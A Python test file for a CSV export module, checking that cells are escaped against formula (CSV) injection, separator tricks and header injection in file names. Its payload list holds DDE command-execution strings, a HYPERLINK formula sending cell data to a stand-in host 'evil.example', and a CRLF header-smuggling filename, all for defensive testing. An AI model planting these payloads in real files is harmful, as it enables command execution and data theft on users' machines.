"""What stands in a CSV file is read back as it was written, and is never a formula."""

import csv
import io
import sys
import unicodedata
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.platform.sheets import BOM, FILENAME_MAX, SIGNS, attached, csv_line

# From OWASP's page on CSV injection, CVE-2023-2258, and what programs are known to strip or to take for a sign.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Error")', '=IMPORTXML(CONCAT("//x"),"//a")', "\t=1+1", "\r=1+1",
    "\n=1+1", "\t1", "\r1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u00ad=1+1", "\x00=1+1",
    "\x0b=1+1", "\u2028=1+1", "\u202e=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "⁺1", "−1+1", "   ＝1+1", "=", "@", "--1",
]  # fmt: skip
# Cells that begin one when the file is opened with another separator, or cut where a quote stands.
HIDDEN = [
    "Anna;=1+1",
    'Anna"=1+1',
    'Anna",=1+1',
    "Anna\t=1+1",
    "Anna\r\n=1+1",
    "Anna, =1+1",
    "a;;\u3000＝1",
    "a|=1",
    'a"";@x',
]
HARMLESS = [
    "Anna",
    "anna+tickets@example.org",
    "A-1",
    "Jean-Luc",
    "1=1",
    "'=1",
    "a = b",
    "Müller; Söhne",
    "東京",
    "👩‍👩‍👧",
    "",
]


def read_back(line: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(line.decode(), newline=""), delimiter=separator))


def is_formula(cell: str) -> bool:
    """What a suspicious program would take for one, said in another way than the code says it."""
    kept = "".join(
        sign
        for sign in cell
        if not sign.isspace() and unicodedata.category(sign) not in ("Cc", "Cf", "Zs", "Zl", "Zp")
    )
    return unicodedata.normalize("NFKC", kept[:1]) in (
        "=",
        "+",
        "-",
        "@",
        "−",
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_shown_and_not_run(text: str) -> None:
    ((first, second, third),) = read_back(csv_line(["R1", text, 5]))
    assert (first, third) == ("R1", "5")
    assert second[0] == "'"
    assert second.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", [*FORMULAS, *HIDDEN])
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_separator_brings_a_formula_out(text: str, separator: str) -> None:
    for row in read_back(csv_line(["R1", text, "x"]), separator):
        assert [cell for cell in row if is_formula(cell)] == []


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert read_back(csv_line(["R1", text])) == [["R1", text]]


@given(st.lists(st.text(max_size=40), min_size=2, max_size=6))
def test_any_text_comes_back_whole_and_is_no_formula(cells: list[str]) -> None:
    line = csv_line(cells)
    assert line.endswith(b"\r\n")
    (row,) = read_back(line)
    assert not any(is_formula(cell) for cell in row)
    sent = [cell.encode("utf-8", "replace").decode() for cell in cells]
    assert [cell.replace("'", "") for cell in row] == [cell.replace("'", "") for cell in sent]


@given(st.text(alphabet=';,|"\t\r\n =+-@＝a1\u200b', max_size=12), st.sampled_from(",;\t|"))
def test_texts_of_separators_and_signs_hide_no_formula(text: str, separator: str) -> None:
    for row in read_back(csv_line(["R1", text, "x"]), separator):
        assert [cell for cell in row if is_formula(cell)] == []


def test_numbers_stay_numbers() -> None:
    cells = [
        -5,
        10**15,
        Decimal("-12.50"),
        Decimal("1E+3"),
        True,
        None,
        datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC),
    ]
    assert csv_line(cells) == b"-5,1000000000000000,-12.50,1000,true,,2030-01-02T03:04:05.000Z\r\n"


def test_every_sign_that_normalises_to_one_is_known() -> None:
    found = {
        chr(code)
        for code in range(sys.maxunicode + 1)
        if unicodedata.normalize("NFKC", chr(code)) in set("=+-@")
    }
    assert found <= set(SIGNS)


def test_the_mark_of_utf8_is_what_excel_looks_for() -> None:
    assert (BOM + csv_line(["Größe"])).decode("utf-8-sig") == "Größe\r\n"


def test_a_file_name_cannot_leave_its_header() -> None:
    name, value = attached('b"\r\nx: y/../Größe.csv')
    assert name == b"content-disposition"
    assert value == (
        b"attachment; filename=\"b_x_y_.._Gr_e.csv\"; filename*=UTF-8''b%22%0D%0Ax%3A%20y%2F..%2FGr%C3%B6%C3%9Fe.csv"
    )
    assert b'filename="' + b"x" * (FILENAME_MAX - 4) + b'.csv";' in attached("x" * 500 + ".csv")[1]
